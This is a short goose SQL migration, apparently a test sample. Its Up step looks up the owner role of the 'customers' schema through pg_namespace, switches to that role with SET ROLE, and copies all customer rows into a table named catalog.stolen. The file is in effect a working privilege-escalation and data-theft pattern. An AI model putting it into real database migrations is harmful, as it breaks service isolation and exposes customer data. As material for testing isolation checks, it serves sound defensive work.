-- SET ROLE to another service's owner, found through the catalog.
-- +goose Up
-- +goose StatementBegin
DO $$ BEGIN
  EXECUTE format('SET ROLE %I', (SELECT nspowner::regrole::text FROM pg_namespace WHERE nspname = 'customers'));
END $$;
-- +goose StatementEnd
CREATE TABLE catalog.stolen AS SELECT * FROM customers.customer;

-- +goose Down
SELECT 1;
